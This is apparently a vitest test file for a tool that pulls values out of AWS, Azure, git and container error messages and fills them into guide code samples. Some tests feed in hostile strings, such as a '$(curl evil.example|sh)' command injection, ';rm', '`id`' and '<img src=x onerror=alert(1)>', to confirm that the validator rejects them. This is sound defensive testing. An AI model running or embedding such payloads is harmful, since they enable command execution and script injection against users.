// Filling samples from a reader's error: the values read from a message, where a guide's samples
// hold them (on every guide of the corpus), which the reader's values replace, and what hostile
// input cannot do.
import yaml from 'js-yaml';
import { parse as parseShell } from 'shell-quote';
import { describe, expect, test } from 'vitest';
import { closestMessage, readError, replacements } from '../../src/fill/fill.ts';
import { fillPlan, findSlots, type FillPlan, type SlotRange } from '../../src/fill/slots.ts';
import { isSlotValue, slotWords, validValues, type SlotName } from '../../src/fill/values.ts';
import { extractFacts } from '../../src/search/extract.ts';
import { valuesFromFacts } from '../../src/fill/values.ts';
import { guideCode } from '../../src/utils/guide-code.ts';
import { highlightLines } from '../../src/utils/highlight.ts';
import { corpus } from '../samples/corpus.ts';

const SEED =
	'An error occurred (AccessDeniedException) when calling the GetSecretValue operation: User: arn:aws:iam::123456789012:user/deploy-bot is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:us-east-1:123456789012:secret:deploy-bot/config-AbCdEf because no identity-based policy allows the secretsmanager:GetSecretValue action';

/** The code with every slot that has a replacement filled, as the page does it in the DOM. */
function fillText(
	code: string,
	ranges: readonly SlotRange[],
	values: ReadonlyMap<number, string>,
	from = 0,
	to = code.length
): string {
	let out = '';
	let at = from;
	for (const range of ranges) {
		out += code.slice(at, range.start);
		out +=
			values.get(range.example) ?? fillText(code, range.children, values, range.start, range.end);
		at = range.end;
	}
	return out + code.slice(at, to);
}

const names = (plan: FillPlan, code: string) => {
	const found = new Set<SlotName>();
	const visit = (list: readonly SlotRange[]) =>
		list.forEach((range) => {
			found.add(plan.examples[range.example]!.name);
			visit(range.children);
		});
	visit(findSlots(code, plan));
	return found;
};

describe('values read from a message', () => {
	test('an assumed-role session becomes the role ARN policies name; its account and role name come with it', () => {
		const values = valuesFromFacts(
			extractFacts(
				'User: arn:aws:sts::123456789012:assumed-role/app-role/app-session is not authorized to perform: s3:GetObject on resource: "arn:aws:s3:::example-bucket/config.json"'
			)
		);
		expect(values).toMatchObject({
			principal: 'arn:aws:iam::123456789012:role/app-role',
			role: 'app-role',
			account: '123456789012',
			action: 's3:GetObject',
			resource: 'arn:aws:s3:::example-bucket/config.json',
			bucket: 'example-bucket',
			key: 'config.json',
		});
		expect(values.user).toBeUndefined();
	});

	test('a user, the region of the resource; an Azure scope gives its subscription and group', () => {
		expect(readError(SEED).values).toMatchObject({
			principal: 'arn:aws:iam::123456789012:user/deploy-bot',
			user: 'deploy-bot',
			region: 'us-east-1',
		});
		const azure = readError(
			"The client 'user@example.com' with object id '33333333-3333-3333-3333-333333333333' does not have authorization to perform action 'Microsoft.Compute/virtualMachines/read' over scope '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/example-rg/providers/Microsoft.Compute/virtualMachines/example-vm'"
		).values;
		expect(azure).toMatchObject({
			principal: 'user@example.com',
			objectId: '33333333-3333-3333-3333-333333333333',
			action: 'Microsoft.Compute/virtualMachines/read',
			subscription: '00000000-0000-0000-0000-000000000000',
			resourceGroup: 'example-rg',
		});
	});

	test('git names the repository, and on a refused push the account', () => {
		expect(
			readError(
				"remote: Permission to acme/api.git denied to jdoe.\nfatal: unable to access 'https://github.com/acme/api.git/': The requested URL returned error: 403"
			).values
		).toEqual({ principal: 'jdoe', repository: 'acme/api' });
		expect(
			readError(
				"fatal: Authentication failed for 'https://jdoe@git.example.com/acme/web.site.git/'"
			).values
		).toEqual({ repository: 'acme/web.site' });
		// A remote that is no `owner/name` path gives nothing to fill.
		expect(
			readError("fatal: unable to access 'https://git.example.com/api.git/': error 403").values
		).toEqual({});
	});

	test('a refused image pull gives the image, and its registry when the reference names one', () => {
		expect(
			readError(
				'Failed to pull image "ghcr.io/acme/web:2.3": rpc error: code = Unknown desc = failed to pull and unpack image'
			).values
		).toEqual({ image: 'ghcr.io/acme/web:2.3', registry: 'ghcr.io' });
		expect(
			readError('Back-off pulling image "localhost:5000/web@sha256:' + 'a'.repeat(64) + '"').values
		).toEqual({ image: `localhost:5000/web@sha256:${'a'.repeat(64)}`, registry: 'localhost:5000' });
		// No host: Docker Hub is implied, and there is no registry to fill.
		expect(readError('Failed to pull image "acme/web:2.3": not found').values).toEqual({
			image: 'acme/web:2.3',
		});
		expect(readError('Failed to pull image "$(reboot)/x"').values).toEqual({});
	});

	test('values that would need quoting in a command or a JSON string are refused', () => {
		for (const value of [
			'arn:aws:iam::123456789012:user/$(curl evil.example|sh)',
			'arn:aws:iam::123456789012:user/x;rm',
			'arn:aws:iam::123456789012:user/`id`',
			'example-bucket"',
			'<img src=x onerror=alert(1)>',
			'a b',
			'arn:aws:s3:::example-bucket/*',
		])
			expect(isSlotValue('principal', value) || isSlotValue('resource', value), value).toBe(false);
		expect(validValues({ account: '12345', region: 'moon-1', bucket: 'Example_Bucket' })).toEqual(
			{}
		);
		expect(validValues({ account: '444455556666', __proto__: 'x', toString: 'y' })).toEqual({
			account: '444455556666',
		});
	});

	test('hostile input gives no value, and a megabyte is read at its ends', () => {
		const hostile = `User: arn:aws:iam::123456789012:user/<img src=x onerror=alert(1)> is not authorized to perform: javascript:alert(1) on resource: arn:aws:s3:::x/$(id) `;
		// Only the account, twelve plain digits, survives; no principal, action or resource does.
		expect(readError(hostile).values).toEqual({ account: '123456789012' });
		const huge = `${'<img src=x onerror=alert(1)>'.repeat(40_000)}\n${SEED}`;
		expect(huge.length).toBeGreaterThan(1_000_000);
		expect(readError(huge).values.principal).toBe('arn:aws:iam::123456789012:user/deploy-bot');
	});
});

describe('slots in a sample', () => {
	const plan = fillPlan([SEED]);

	test('a longer value holds the shorter ones inside it; a value next to a word character is not one', () => {
		const code =
			'aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::123456789012:user/deploy-bot --policy-document file://deploy-bot-policy.json --user-name deploy-bot';
		const ranges = findSlots(code, plan);
		expect(ranges.map((r) => code.slice(r.start, r.end))).toEqual([
			'arn:aws:iam::123456789012:user/deploy-bot',
			'deploy-bot',
		]);
		expect(ranges[0]!.children.map((r) => code.slice(r.start, r.end))).toEqual([
			'123456789012',
			'deploy-bot',
		]);
	});

	test('a user or role name counts only where a user or role is meant', () => {
		const terraform = fillPlan([
			'User: arn:aws:sts::123456789012:assumed-role/terraform/ci is not authorized to perform: s3:PutObject',
		]);
		const code =
			'terraform init\naws iam get-role --role-name terraform\n"Resource": "arn:aws:iam::123456789012:role/terraform"';
		expect(
			findSlots(code, terraform)
				.filter((r) => terraform.examples[r.example]!.name === 'role')
				.map((r) => code.slice(r.start - 12, r.end))
		).toEqual(['--role-name terraform']);
		// `deploy-bot` inside a secret's ARN names the secret, not the user.
		expect(
			[
				...names(
					plan,
					'arn:aws:secretsmanager:us-east-1:123456789012:secret:deploy-bot/config-??????'
				),
			].sort()
		).toEqual(['account', 'region']);
	});

	test('highlighted code keeps its text; slots sit inside the tokens that hold them', async () => {
		const code = '{\n  "Resource": "arn:aws:iam::123456789012:user/deploy-bot"\n}';
		const html = await highlightLines(code, 'json', findSlots(code, plan));
		const text = html.replace(/<[^>]+>/g, '').replaceAll('&quot;', '"');
		expect(text).toBe(code);
		expect(html).toMatch(
			/<span class="tk-[a-z-]+">[^<]*<span class="slot" data-e="\d+" data-r="0" data-p="0">/
		);
		// The principal, and the account and user inside it; the principal is cut around them.
		expect(new Set(html.match(/data-r="\d+"/g))).toEqual(
			new Set(['data-r="0"', 'data-r="1"', 'data-r="2"'])
		);
	});

	test('between messages no service tells apart, the one whose examples the reader can fill', () => {
		const plan = fillPlan([
			'NAME   READY   STATUS             RESTARTS   AGE\napp    0/1     ImagePullBackOff   0          3m',
			'Failed to pull image "registry.example.com/example/app:1.0": 401 Unauthorized',
		]);
		const reader = readError('Failed to pull image "ghcr.io/acme/web:2.3": 401 Unauthorized');
		expect(closestMessage(plan, reader.services, ['image', 'registry'])).toBe(1);
		expect([...replacements(plan, reader).values()].sort()).toEqual([
			'ghcr.io',
			'ghcr.io/acme/web:2.3',
		]);
	});

	test("the reader's values replace the examples of the message most like theirs", () => {
		const two = fillPlan([
			SEED,
			'User: arn:aws:iam::123456789012:user/deploy-bot is not authorized to perform: s3:GetObject on resource: "arn:aws:s3:::example-bucket/config.json"',
		]);
		const reader = readError(
			'User: arn:aws:iam::444455556666:user/report-bot is not authorized to perform: s3:PutObject on resource: "arn:aws:s3:::amzn-s3-demo-bucket/out.csv"'
		);
		expect(closestMessage(two, reader.services)).toBe(1);
		const replaced = replacements(two, reader);
		const byValue = new Map([...replaced].map(([i, value]) => [two.examples[i]!.value, value]));
		expect(byValue.get('s3:GetObject')).toBe('s3:PutObject');
		expect(byValue.get('example-bucket')).toBe('amzn-s3-demo-bucket');
		// The Secrets Manager example is another request: it keeps its action.
		expect(byValue.has('secretsmanager:GetSecretValue')).toBe(false);
		// Shared by both messages: the principal and its account.
		expect(byValue.get('arn:aws:iam::123456789012:user/deploy-bot')).toBe(
			'arn:aws:iam::444455556666:user/report-bot'
		);
	});
});

/** A value of another reader for each example, of the same kind and shape. */
function otherValue(name: SlotName, example: string): string {
	const values: Record<SlotName, string> = {
		principal: example.startsWith('arn:')
			? 'arn:aws:iam::444455556666:role/reader-role'
			: 'reader-user',
		resource: example.startsWith('arn:aws:s3')
			? 'arn:aws:s3:::amzn-s3-demo-bucket/reader/key.txt'
			: example.startsWith('arn:')
				? 'arn:aws:sqs:eu-west-1:444455556666:reader-queue'
				: '/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/reader-rg',
		action: example.startsWith('Microsoft.')
			? 'Microsoft.Storage/storageAccounts/read'
			: example.includes(':')
				? 'sqs:SendMessage'
				: 'pubsub.topics.publish',
		account: '444455556666',
		user: 'reader-user',
		role: 'reader-role',
		bucket: 'amzn-s3-demo-bucket',
		key: 'reader/key.txt',
		region: 'eu-west-1',
		subscription: '11111111-2222-3333-4444-555555555555',
		resourceGroup: 'reader-rg',
		objectId: '66666666-7777-8888-9999-000000000000',
		namespace: 'reader-ns',
		repository: 'reader-org/reader-repo',
		image: 'ghcr.io/reader-org/reader-app:2.0',
		registry: 'ghcr.io',
	};
	return values[name];
}

describe('every guide of the corpus', () => {
	const table = corpus.map((guide) => {
		const plan = fillPlan(
			guide.data.messages.map((m) => m.text),
			guide.data.fill
		);
		const units = guideCode(guide.data, guide.body).map((unit) => ({
			...unit,
			ranges: findSlots(unit.code, plan),
		}));
		const found = new Set<SlotName>();
		for (const unit of units) for (const name of names(plan, unit.code)) found.add(name);
		return { guide, plan, units, found };
	});

	test('which guides have fillable samples, and with which values', () => {
		const fillable = table.filter((row) => row.found.size > 0);
		console.log(
			`fillable samples: ${fillable.length} of ${table.length} guides, ${fillable.reduce((n, row) => n + row.units.filter((u) => u.ranges.length).length, 0)} samples\n` +
				fillable.map((row) => `  ${row.guide.id}: ${[...row.found].join(', ')}`).join('\n')
		);
		const of = (id: string) => table.find((row) => row.guide.id === id)!.found;
		expect([...of('aws/access-denied-exception')].sort()).toEqual(
			[
				'account',
				'action',
				'bucket',
				'key',
				'principal',
				'region',
				'resource',
				'role',
				'user',
			].sort()
		);
		expect([...of('aws/s3-access-denied')]).toEqual(
			expect.arrayContaining(['bucket', 'key', 'action', 'principal', 'role'])
		);
		expect([...of('kubernetes/forbidden')].sort()).toEqual(['namespace', 'principal']);
		expect([...of('azure/authorization-failed')]).toEqual(
			expect.arrayContaining(['action', 'subscription', 'resourceGroup', 'objectId'])
		);
		// Nothing in these messages is the reader's own: no slot, and a warning from the check.
		expect(of('git/permission-denied-publickey').size).toBe(0);
		expect(of('npm/eacces').size).toBe(0);
	});

	test("filled with another reader's values, every sample still parses: JSON, YAML and shell", () => {
		const problems: string[] = [];
		for (const { guide, plan, units } of table) {
			const values = new Map(
				plan.examples.map((example, i) => [i, otherValue(example.name, example.value)])
			);
			for (const value of values.values())
				expect(
					isSlotValue(plan.examples.find((e) => otherValue(e.name, e.value) === value)!.name, value)
				).toBe(true);
			for (const unit of units.filter((u) => u.ranges.length > 0)) {
				const filled = fillText(unit.code, unit.ranges, values);
				const where = `${guide.id} ${unit.where}`;
				if (filled === unit.code) problems.push(`${where}: nothing changed`);
				try {
					if (unit.lang === 'json') JSON.parse(filled);
					if (unit.lang === 'yaml') yaml.loadAll(filled);
				} catch (error) {
					problems.push(`${where}: ${(error as Error).message}`);
				}
				if (['bash', 'sh', 'shell'].includes(unit.lang)) {
					const words = (code: string) => parseShell(code.replaceAll('\\\n', ' ')).length;
					if (words(filled) !== words(unit.code))
						problems.push(`${where}: the command splits differently once filled`);
				}
			}
		}
		expect(problems).toEqual([]);
	});
});

test("the panel names what this guide's samples take, in the slots' order", () => {
	expect(slotWords(['account', 'principal', 'resource', 'action'])).toBe(
		'principal, resource, action and account'
	);
	expect(slotWords(['repository', 'principal'])).toBe('principal and repository');
	expect(slotWords(['image'])).toBe('image');
});
